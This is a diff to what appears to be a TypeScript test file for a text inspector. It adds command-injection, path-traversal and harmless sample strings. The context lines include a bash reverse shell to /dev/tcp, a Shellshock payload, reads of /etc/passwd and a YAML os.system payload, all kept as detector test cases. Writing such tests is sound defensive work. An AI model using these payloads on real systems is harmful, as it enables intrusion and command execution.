@@ -46,6 +46,8 @@ const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
     ';c"a"t$IFS/etc/hosts',
     '127.0.0.1;ls -la /',
     '() { :; }; /bin/id',
+    'x & more</etc>/tmp/a',
+    'x; id</b>y',
     'bash -i >& /dev/tcp/192.0.2.1/44 0>&1',
     'x; sleep 12',
     'x\nsleep 9s',
@@ -88,6 +90,8 @@ const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
     '!!python/object/apply:os.system ["id"]',
   ],
   path: [
+    '/.../.../etc/hosts',
+    'https://.../../../etc/hosts',
     '../../../etc/passwd',
     '..\\..\\windows\\win.ini',
     '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
@@ -205,6 +209,10 @@ const HARMLESS = [
   'File | Edit | View | Help',
   'date; time',
   '{cat,dog} or {host,port}',
+  '<li><b>News & more</b></li>',
+  '<td>Time & date</td><td>Tips & find</td>',
+  'https://.../logo.png',
+  'https://..../logo.png or http://.../a/b',
 ];
 
 describe('inspectText', () => {
